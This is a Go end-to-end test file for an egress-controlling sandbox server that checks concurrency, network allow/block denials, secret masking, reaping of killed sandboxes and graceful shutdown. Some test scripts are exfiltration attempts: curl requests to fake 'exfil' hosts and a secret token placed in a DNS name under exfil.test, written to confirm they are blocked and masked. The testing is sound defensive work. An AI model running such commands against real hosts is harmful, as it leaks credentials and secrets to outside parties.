package e2e

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/egressd/egressd/e2e/fakenet"
	"github.com/egressd/egressd/internal/syncbuf"
	"github.com/egressd/egressd/sandbox"
)

// TestServe runs `launcher serve` inside the fake internet and sends it
// executions over its unix socket, as a client of the API would: each
// result is checked against what the command did and what the world saw.
// When all have finished, the machine holds nothing of theirs.
func TestServe(t *testing.T) {
	serveGroup(t, "serve", []serveCase{
		{"SequentialAndConcurrentExecutionsGetTheirOwnResults", testServeSequentialAndConcurrent},
		{"DeniedNameIsReportedAndTheServerSawNothing", testServeDeniedName},
		{"SecretIsMaskedInStdoutStderrAndDenials", testServeSecretMasked},
		{"KilledServerLeavesNothingAfterTheRestartsReap", testServeKilledServerReaped},
		{"SIGTERMLetsTheRunningExecutionFinish", testServeSIGTERMDrains},
		{"SIGTERMKillsWhatOutlastsTheShutdownTimeout", testServeSIGTERMKills},
	})
}

// serveCase is one test of a serve group.
type serveCase struct {
	name string
	fn   func(t *testing.T)
}

// serveGroup runs cases in parallel, each with its own world and server,
// refusing to judge a machine that holds sandboxes before they run and
// checking that it holds none of theirs after.
func serveGroup(t *testing.T, what string, cases []serveCase) {
	fakenet.RequireRoot(t)
	launcherBinary(t)
	if left := launcherLeftovers(t); len(left) > 0 {
		t.Fatalf("leftovers before the %s tests ran (not ours; refusing to judge): %v", what, left)
	}
	t.Run("group", func(t *testing.T) {
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				t.Parallel()
				tc.fn(t)
			})
		}
	})
	if left := launcherLeftovers(t); len(left) > 0 {
		t.Errorf("the %s tests left behind: %v", what, left)
	}
}

// server is one `launcher serve` running in a world.
type server struct {
	t      *testing.T
	lw     *lworld
	sock   string
	cmd    *exec.Cmd
	stderr *syncbuf.Buffer
	exited chan struct{}
	client *http.Client
}

// startServer starts `launcher serve` in lw's world on a unix socket in a
// fresh directory, with the suite's egressd, the world's resolver and args;
// it returns once /readyz answers. The server is stopped with SIGTERM when
// the test ends (unless the test did it).
func startServer(t *testing.T, lw *lworld, args ...string) *server {
	t.Helper()
	dir, err := os.MkdirTemp("", "serve-e2e-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return startServerAt(t, lw, filepath.Join(dir, "api.sock"), args...)
}

func startServerAt(t *testing.T, lw *lworld, sock string, args ...string) *server {
	t.Helper()
	full := append([]string{"serve", "--listen", "unix:" + sock, "--egressd", egressdBin, "--upstream-dns", dnsAddr.String()}, args...)
	cmd := lw.w.Exec(context.Background(), launcherBinary(t), full...)
	cmd.Env = cleanEnv()
	s := &server{t: t, lw: lw, sock: sock, cmd: cmd, stderr: &syncbuf.Buffer{}, exited: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = s.stderr, s.stderr
	s.client = &http.Client{Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", sock)
		},
	}}
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting launcher serve: %v", err)
	}
	go func() {
		_ = cmd.Wait()
		close(s.exited)
	}()
	t.Cleanup(func() {
		s.stop()
		t.Logf("launcher serve's log:\n%s", s.stderr.String())
	})
	if !eventually(30*time.Second, func() bool {
		select {
		case <-s.exited:
			return true
		default:
		}
		resp, err := s.client.Get("http://serve/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	}) {
		t.Fatalf("launcher serve never became ready:\n%s", s.stderr.String())
	}
	select {
	case <-s.exited:
		t.Fatalf("launcher serve exited at start:\n%s", s.stderr.String())
	default:
	}
	return s
}

// stop sends SIGTERM and waits for the server to end (SIGKILL after 60s).
func (s *server) stop() {
	select {
	case <-s.exited:
		return
	default:
	}
	_ = s.cmd.Process.Signal(syscall.SIGTERM)
	select {
	case <-s.exited:
	case <-time.After(60 * time.Second):
		s.t.Errorf("launcher serve did not end within 60s of SIGTERM; killing it")
		_ = s.cmd.Process.Kill()
		<-s.exited
	}
}

// execResult is POST /v1/execute's answer, as a client decodes it.
type execResult struct {
	ExitCode   int          `json:"exit_code"`
	Stdout     string       `json:"stdout"`
	Stderr     string       `json:"stderr"`
	DurationMS int64        `json:"duration_ms"`
	TimedOut   bool         `json:"timed_out"`
	OOMKilled  bool         `json:"oom_killed"`
	Truncated  bool         `json:"truncated"`
	Denied     []execDenial `json:"denied"`
	Sandbox    string       `json:"sandbox"`
	Warnings   []string     `json:"warnings"`
	Error      string       `json:"error"`
}

type execDenial struct {
	Kind   string `json:"kind"`
	Target string `json:"target"`
	Port   int    `json:"port"`
	Reason string `json:"reason"`
	Rule   string `json:"rule"`
	Source string `json:"source"`
	Count  int    `json:"count"`
}

// post sends body to path and returns the status and the raw answer.
func (s *server) post(path string, body any) (int, []byte) {
	s.t.Helper()
	data, err := json.Marshal(body)
	if err != nil {
		s.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), launcherRunTimeout)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, "http://serve"+path, bytes.NewReader(data))
	req.Header.Set("Content-Type", "application/json")
	resp, err := s.client.Do(req)
	if err != nil {
		s.t.Fatalf("POST %s: %v\nserver log:\n%s", path, err, s.stderr.String())
	}
	defer resp.Body.Close()
	out, err := io.ReadAll(resp.Body)
	if err != nil {
		s.t.Fatalf("POST %s: reading the answer: %v", path, err)
	}
	return resp.StatusCode, out
}

// execute runs req through POST /v1/execute and wants 200.
func (s *server) execute(req map[string]any) execResult {
	s.t.Helper()
	status, body := s.post("/v1/execute", req)
	var res execResult
	if err := json.Unmarshal(body, &res); err != nil {
		s.t.Fatalf("answer %q: %v", body, err)
	}
	if status != http.StatusOK {
		s.t.Fatalf("status %d: %s\nserver log:\n%s", status, body, s.stderr.String())
	}
	return res
}

func (s *server) get(path string) string {
	s.t.Helper()
	resp, err := s.client.Get("http://serve" + path)
	if err != nil {
		s.t.Fatalf("GET %s: %v", path, err)
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(resp.Body)
	return string(out)
}

// streamInBackground sends body to POST /v1/execute/stream and reads the
// events away; the channel closes when the stream ends (or the server
// dies).
func (s *server) streamInBackground(body string) <-chan struct{} {
	running := make(chan struct{})
	go func() {
		defer close(running)
		req, _ := http.NewRequest(http.MethodPost, "http://serve/v1/execute/stream", strings.NewReader(body))
		resp, err := s.client.Do(req)
		if err != nil {
			return
		}
		defer resp.Body.Close()
		_, _ = io.Copy(io.Discard, resp.Body)
	}()
	return running
}

// sh is a request running script under sh -c.
func sh(script string) map[string]any {
	return map[string]any{"cmd": "sh", "args": []string{"-c", script}}
}

func testServeSequentialAndConcurrent(t *testing.T) {
	lw := newLauncherWorld(t)
	s := startServer(t, lw, "--max-concurrent", "2")
	if fi, err := os.Stat(s.sock); err != nil || fi.Mode().Perm() != 0o600 || fi.Mode().Type() != os.ModeSocket {
		t.Errorf("the API socket: %v, %v; want a socket of mode 0600", fi.Mode(), err)
	}
	// Sequential: each result is its own command's.
	for i := range 3 {
		res := s.execute(sh(fmt.Sprintf("echo out-%d; echo err-%d >&2; exit %d", i, i, i)))
		if res.ExitCode != i || res.Stdout != fmt.Sprintf("out-%d\n", i) || res.Stderr != fmt.Sprintf("err-%d\n", i) {
			t.Errorf("execution %d: exit %d stdout %q stderr %q", i, res.ExitCode, res.Stdout, res.Stderr)
		}
		if !strings.HasPrefix(res.Sandbox, sandbox.IDPrefix) || res.DurationMS <= 0 || res.Denied == nil {
			t.Errorf("execution %d: sandbox %q duration %dms denied %v", i, res.Sandbox, res.DurationMS, res.Denied)
		}
	}
	// Concurrent, more than --max-concurrent: the queue takes the rest;
	// each gets its own output, its own sandbox, and its own network policy
	// (a request's allow rule is no other request's).
	const n = 4
	results := make([]execResult, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req := sh(fmt.Sprintf("printf 'in=%%s\\n' \"$(cat)\"; curl -sS --max-time 5 http://allowed.test/c%d", i))
			req["stdin"] = fmt.Sprintf("stdin-%d", i)
			if i%2 == 0 {
				req["network"] = map[string]any{"allow": []string{"allowed.test"}}
			}
			results[i] = s.execute(req)
		}()
	}
	wg.Wait()
	ids := map[string]bool{}
	for i, res := range results {
		ids[res.Sandbox] = true
		if !strings.HasPrefix(res.Stdout, fmt.Sprintf("in=stdin-%d\n", i)) {
			t.Errorf("concurrent execution %d got stdout %q", i, res.Stdout)
		}
		allowed := i%2 == 0
		got := replies(strings.TrimPrefix(res.Stdout, fmt.Sprintf("in=stdin-%d\n", i)))
		switch {
		case allowed && (res.ExitCode != 0 || len(got) != 1 || got[0].URI != fmt.Sprintf("/c%d", i)):
			t.Errorf("concurrent execution %d (allowed.test allowed): exit %d, replies %v\n%+v", i, res.ExitCode, got, res)
		case !allowed && (len(got) != 0 || len(res.Denied) == 0):
			t.Errorf("concurrent execution %d (nothing allowed): exit %d, replies %v, denied %v", i, res.ExitCode, got, res.Denied)
		}
	}
	if len(ids) != n {
		t.Errorf("%d concurrent executions ran in %d sandboxes: %v", n, len(ids), ids)
	}
	for i := range n {
		want := 0
		if i%2 == 0 {
			want = 1
		}
		if got := countURI(lw.w, fmt.Sprintf("/c%d", i)); got != want {
			t.Errorf("the world served /c%d %d times, want %d", i, got, want)
		}
	}
	var pool map[string]any
	if err := json.Unmarshal([]byte(s.get("/v1/pool")), &pool); err != nil || pool["mode"] != "cold" || pool["in_flight"] != float64(0) {
		t.Errorf("GET /v1/pool: %v (%v)", pool, err)
	}
	metrics := s.get("/metrics")
	for _, want := range []string{`egressd_serve_executions_total{result="ok"} 5`, `egressd_serve_executions_total{result="exit_nonzero"} 2`, "egressd_serve_in_flight 0"} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics lack %q", want)
		}
	}
}

func countURI(w *fakenet.World, uri string) int {
	n := 0
	for _, r := range w.HTTPLog() {
		if r.URI == uri {
			n++
		}
	}
	return n
}

func testServeDeniedName(t *testing.T) {
	lw := newLauncherWorld(t)
	s := startServer(t, lw)
	req := sh(curlPlain + " http://blocked.test/exfil; " + curlPlain + " http://other.test/exfil2; " + curlPlain + " http://allowed.test/ok")
	req["network"] = map[string]any{"allow": []string{"allowed.test", "other.test"}, "block": []string{"other.test"}}
	res := s.execute(req)
	if got := replies(res.Stdout); len(got) != 1 || got[0].URI != "/ok" {
		t.Errorf("want exactly the allowed reply /ok, got %v\n%+v", got, res)
	}
	want := map[string]execDenial{
		"blocked.test": {Target: "blocked.test", Reason: "no-allow-rule"},
		"other.test":   {Target: "other.test", Reason: "blocked-by", Rule: "other.test", Source: "request:network.block"},
	}
	for _, d := range res.Denied {
		w, ok := want[d.Target]
		if !ok {
			continue
		}
		delete(want, d.Target)
		if d.Reason != w.Reason || d.Rule != w.Rule || d.Source != w.Source {
			t.Errorf("denial of %s: %+v, want reason %s rule %q source %q", d.Target, d, w.Reason, w.Rule, w.Source)
		}
	}
	for name := range want {
		t.Errorf("no denial of %s in %+v", name, res.Denied)
	}
	for _, name := range []string{"blocked.test", "other.test"} {
		if n := lw.w.HTTPRequests(name); n != 0 {
			t.Errorf("the fake server for %s saw %d requests", name, n)
		}
	}
	if n := lw.w.DNSQueries("blocked.test"); n != 0 {
		t.Errorf("the world's resolver saw %d queries for blocked.test", n)
	}
	// The stream reports the denial as an event of its own when it
	// happens: before what the command prints a second later.
	events := s.stream(map[string]any{"cmd": "sh", "args": []string{"-c", curlPlain + " http://blocked.test/stream; sleep 1; echo done"}})
	var types []string
	denialAt, doneAt := -1, -1
	for i, ev := range events {
		types = append(types, ev.Type)
		if ev.Type == "denial" && denialAt < 0 {
			denialAt = i
		}
		if ev.Type == "stdout" && strings.Contains(ev.Data, "done") {
			doneAt = i
		}
		if ev.Type == "denial" && (ev.Denial == nil || ev.Denial.Target != "blocked.test" || ev.Denial.Reason != "no-allow-rule") {
			t.Errorf("denial event %+v", ev.Denial)
		}
	}
	if len(types) == 0 || types[len(types)-1] != "exit" || denialAt < 0 || doneAt < 0 {
		t.Errorf("stream events %v: want stdout and denial events, exit last", types)
	} else if denialAt > doneAt {
		t.Errorf("stream events %v: the denial came after the command's later output, not when it happened", types)
	}
	if n := lw.w.HTTPRequests("blocked.test"); n != 0 {
		t.Errorf("the fake server for blocked.test saw %d requests", n)
	}
}

// curlPlain is curl bounded, for plain HTTP through the transparent proxy.
const curlPlain = "curl -sS --max-time 5"

// streamEvent is one line of the NDJSON stream.
type streamEvent struct {
	Type     string      `json:"type"`
	Data     string      `json:"data"`
	Denial   *execDenial `json:"denial"`
	Error    string      `json:"error"`
	ExitCode int         `json:"exit_code"`
	raw      string
}

// stream runs req through POST /v1/execute/stream and returns its events.
func (s *server) stream(req map[string]any) []streamEvent {
	s.t.Helper()
	status, body := s.post("/v1/execute/stream", req)
	if status != http.StatusOK {
		s.t.Fatalf("stream: status %d: %s", status, body)
	}
	var events []streamEvent
	sc := bufio.NewScanner(bytes.NewReader(body))
	for sc.Scan() {
		var ev streamEvent
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			s.t.Fatalf("stream line %q: %v", sc.Text(), err)
		}
		ev.raw = sc.Text()
		events = append(events, ev)
	}
	return events
}

func testServeSecretMasked(t *testing.T) {
	lw := newLauncherWorld(t)
	s := startServer(t, lw)
	const secret = "Sk3tchyT0kenValue"
	// Whole, on both streams; split across two writes (two processes);
	// and in a name egressd refuses, which it quotes back lower-cased in
	// its refusal's body (curl prints it) and in the denial.
	script := `echo "token=$API_TOKEN"; echo "err=$API_TOKEN" >&2; printf '%s' "$API_TOKEN" | head -c 6; printf '%s\n' "$API_TOKEN" | tail -c +7; ` +
		curlPlain + ` "http://$API_TOKEN.exfil.test/"; true`
	req := sh(script)
	req["secrets"] = map[string]string{"API_TOKEN": secret}
	status, body := s.post("/v1/execute", req)
	if status != http.StatusOK {
		t.Fatalf("status %d: %s", status, body)
	}
	leaks := func(what, text string) {
		t.Helper()
		if strings.Contains(strings.ToLower(text), strings.ToLower(secret)) {
			t.Errorf("%s holds the secret:\n%s", what, text)
		}
	}
	leaks("the JSON answer", string(body))
	var res execResult
	if err := json.Unmarshal(body, &res); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(res.Stdout, "token=***") || !strings.Contains(res.Stderr, "err=***") {
		t.Errorf("the secret was not masked where the command printed it: stdout %q stderr %q", res.Stdout, res.Stderr)
	}
	exfil := false
	for _, d := range res.Denied {
		exfil = exfil || strings.HasSuffix(d.Target, ".exfil.test")
	}
	if !exfil {
		t.Errorf("no denial of the exfiltration name: %+v", res.Denied)
	}
	var raw strings.Builder
	for _, ev := range s.stream(req) {
		raw.WriteString(ev.raw + "\n")
	}
	leaks("the stream", raw.String())
	if !strings.Contains(raw.String(), "token=***") {
		t.Errorf("the stream lacks the masked line:\n%s", raw.String())
	}
	for _, q := range lw.w.DNSLog() {
		leaks("a query the world's resolver saw", q.Name)
	}
}

func testServeKilledServerReaped(t *testing.T) {
	lw := newLauncherWorld(t)
	stateDir := serveStateDir(t)
	s := startServer(t, lw, "--state-dir", stateDir)

	// An execution that runs until the server dies.
	running := s.streamInBackground(`{"cmd": "sh", "args": ["-c", "echo started; sleep 120"], "network": {"allow": ["allowed.test"]}}`)
	var id string
	if !eventually(60*time.Second, func() bool {
		ents, _ := os.ReadDir(stateDir)
		for _, e := range ents {
			if strings.HasPrefix(e.Name(), sandbox.IDPrefix) {
				id = e.Name()
			}
		}
		if id == "" {
			return false
		}
		for _, comm := range processesInNetns(filepath.Join(sandbox.NetnsDir, id)) {
			if comm == "sleep" {
				return true
			}
		}
		return false
	}) {
		t.Fatalf("the execution's sandbox never came up\n%s", s.stderr.String())
	}
	nsPath := filepath.Join(sandbox.NetnsDir, id)
	// Should the restart not reap it, the sandbox is removed from inside
	// the world (whose namespace its record names), before the world goes.
	t.Cleanup(func() {
		if _, err := os.Stat(nsPath); err == nil {
			lw.w.Run(t, launcherBinary(t), "cleanup", "--state-dir", stateDir)
		}
	})

	// kill -9: no chance to tear anything down.
	if err := s.cmd.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	<-s.exited
	<-running
	if _, err := os.Stat(nsPath); err != nil {
		t.Fatalf("the killed server's sandbox namespace is already gone (%v): nothing to reap", err)
	}
	if !slices.Contains(runcContainers(t), id) {
		t.Fatalf("the killed server's container %s is not in runc list: nothing to reap", id)
	}

	// The restarted server reaps it before it serves.
	s2 := startServerAt(t, lw, s.sock, "--state-dir", stateDir)
	if !strings.Contains(s2.stderr.String(), id) {
		t.Errorf("the restarted server's log does not name the sandbox it reaped (%s):\n%s", id, s2.stderr.String())
	}
	if procs := processesInNetns(nsPath); len(procs) != 0 {
		t.Errorf("processes left in the reaped namespace: %v", procs)
	}
	for _, p := range []string{nsPath, filepath.Join(stateDir, id)} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s still exists after the restart's reap", p)
		}
	}
	if slices.Contains(runcContainers(t), id) {
		t.Errorf("container %s still in runc list after the restart's reap", id)
	}
	chain := "EGS-" + strings.ToUpper(strings.TrimPrefix(id, sandbox.IDPrefix))
	if rules := worldRules(t, lw.w); strings.Contains(strings.ToUpper(rules), chain) {
		t.Errorf("the world still has the reaped sandbox's chains (%s):\n%s", chain, rules)
	}
	// It serves again, on the same socket path the dead one left.
	if res := s2.execute(sh("echo alive")); res.Stdout != "alive\n" {
		t.Errorf("after the restart: %+v", res)
	}
	// The world's cleanup checks its rules and links are as before.
}

func testServeSIGTERMDrains(t *testing.T) {
	lw := newLauncherWorld(t)
	s := startServer(t, lw, "--shutdown-timeout", "60s")
	done := make(chan execResult, 1)
	go func() {
		var res execResult
		status, body := s.post("/v1/execute", sh("echo begin; sleep 3; echo end"))
		if err := json.Unmarshal(body, &res); err != nil || status != http.StatusOK {
			res.Error = fmt.Sprintf("status %d: %s", status, body)
		}
		done <- res
	}()
	if !eventually(60*time.Second, func() bool { return strings.Contains(s.get("/metrics"), "egressd_serve_in_flight 1") }) {
		t.Fatal("the execution never started")
	}
	if err := s.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	res := <-done
	if res.Error != "" || res.ExitCode != 0 || res.Stdout != "begin\nend\n" {
		t.Errorf("the execution running at SIGTERM: %+v; want it to finish", res)
	}
	select {
	case <-s.exited:
	case <-time.After(30 * time.Second):
		t.Fatal("the server did not exit after its last execution")
	}
	if code := s.cmd.ProcessState.ExitCode(); code != 0 {
		t.Errorf("launcher serve exited %d after SIGTERM, want 0\n%s", code, s.stderr.String())
	}
	if _, err := os.Stat(s.sock); err == nil {
		t.Errorf("the socket %s is left after a clean shutdown", s.sock)
	}
}

func testServeSIGTERMKills(t *testing.T) {
	lw := newLauncherWorld(t)
	s := startServer(t, lw, "--shutdown-timeout", "1s")
	type answer struct {
		status int
		body   string
		took   time.Duration
	}
	done := make(chan answer, 1)
	go func() {
		start := time.Now()
		status, body := s.post("/v1/execute", sh("echo begin; sleep 120; echo end"))
		done <- answer{status, string(body), time.Since(start)}
	}()
	if !eventually(60*time.Second, func() bool { return strings.Contains(s.get("/metrics"), "egressd_serve_in_flight 1") }) {
		t.Fatal("the execution never started")
	}
	time.Sleep(500 * time.Millisecond) // the command runs
	if err := s.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	a := <-done
	if a.status != http.StatusServiceUnavailable || !strings.Contains(a.body, "shutting down") || a.took > 60*time.Second {
		t.Errorf("the execution outlasting the shutdown: status %d after %s: %s; want 503 saying the server is shutting down", a.status, a.took, a.body)
	}
	select {
	case <-s.exited:
	case <-time.After(60 * time.Second):
		t.Fatal("the server did not exit after killing its execution")
	}
	if code := s.cmd.ProcessState.ExitCode(); code != 0 {
		t.Errorf("launcher serve exited %d, want 0\n%s", code, s.stderr.String())
	}
	// TestServe and the world's cleanup check that the killed execution's
	// sandbox left nothing.
}
